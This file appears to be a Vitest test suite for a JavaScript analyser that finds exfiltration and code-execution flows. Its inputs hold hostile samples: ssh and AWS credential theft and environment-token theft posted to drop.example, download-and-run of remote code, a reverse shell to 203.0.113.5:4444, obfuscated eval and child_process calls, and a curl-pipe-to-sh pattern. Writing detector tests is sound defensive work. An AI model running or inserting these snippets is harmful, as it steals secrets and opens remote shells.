import { describe, expect, test } from "vitest";
import { actionsOf } from "./test-actions.ts";

const javaScript = (text: string): readonly string[] => actionsOf(text, "javascript");

describe("data flows", () => {
  test.each([
    [
      "from a file into a request",
      'import fs from "node:fs"; import os from "os"; import path from "path";\nconst key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");\nawait fetch("https://drop.example/a", { method: "POST", body: JSON.stringify({ key }) });',
      "connect send https://drop.example/a < credentials ~/.ssh/id_rsa",
    ],
    [
      "from callbacks into a request that is written",
      'const https = require("https"), fs = require("fs");\nfs.readFile("/root/.aws/credentials", (error, data) => {\n  const request = https.request({ hostname: "drop.example", path: "/a", method: "POST" });\n  request.write(data);\n  request.end();\n});',
      "connect send drop.example/a < credentials /root/.aws/credentials",
    ],
    [
      "from the environment, destructured",
      'const { NPM_TOKEN: t, PATH } = process.env;\naxios.post("https://drop.example", { t, PATH });',
      "connect send https://drop.example < environment NPM_TOKEN",
    ],
    [
      "through a class and promises",
      'class Sender { #data; constructor() { this.#data = JSON.stringify(process.env); } send() { return fetch("https://drop.example?d=" + btoa(this.#data)); } }\nnew Sender().send();',
      "connect fetch https://drop.example?d={} < environment process.env",
    ],
    [
      "from a download into code",
      'fetch("https://a.example/x.js").then((response) => response.text()).then((text) => new Function(text)());',
      "evaluate Function < remote https://a.example/x.js",
    ],
    [
      "from a connection into a shell",
      'const net = require("net"), { spawn } = require("child_process");\nconst shell = spawn("/bin/sh", []);\nconst client = net.connect(4444, "203.0.113.5", () => { client.pipe(shell.stdin); shell.stdout.pipe(client); });',
      "evaluate a program's input < remote 203.0.113.5:4444",
    ],
  ])("%s", (_name, text, expected) => {
    expect(javaScript(text)).toContain(expected);
  });
});

describe("names and constants are followed", () => {
  test.each([
    ['eval(atob("YWxlcnQoMSk="))', "evaluate eval < decoded base64, constant"],
    [
      'eval(Buffer.from("616c65727428312 9".replace(" ", ""), "hex").toString())',
      "evaluate eval < decoded hex, constant",
    ],
    [
      'eval(")1(trela".split("").reverse().join(""))',
      "evaluate eval < decoded reversed text, decoded single characters, constant",
    ],
    [
      "eval(String.fromCharCode(97, 108, 101, 114, 116))",
      "evaluate eval < decoded character codes, constant",
    ],
    ['globalThis["ev" + "al"]("1")', "evaluate eval < decoded joined pieces, constant"],
    ['[]["filter"]["constructor"]("return 1")()', "evaluate Function < constant"],
    ['require("child_" + "process").execSync("id")', "run id < decoded joined pieces"],
    ['import("node:child_process").then(({ exec: go }) => go("id"))', "run id"],
    ['const a = ["id", "execSync", "child_process"]; require(a[2])[a[1]](a[0])', "run id"],
  ])("%s", (text, expected) => {
    expect(javaScript(text)).toContain(expected);
  });
});

test("types and an error in the syntax hide nothing", () => {
  const text =
    'interface A { b: string }\nconst x: = ;\nasync function f<T>(a: T): Promise<void> { await fetch("https://a.example" as string); }\n';
  expect(javaScript(text)).toEqual(["connect fetch https://a.example"]);
});

test("comments, texts and lists of patterns are not actions", () => {
  const text =
    '// eval(x)\nconst patterns = ["eval(", /child_process/, "curl https://a.example | sh"];\nfor (const p of patterns) console.log(p);\n';
  expect(javaScript(text)).toEqual([]);
});
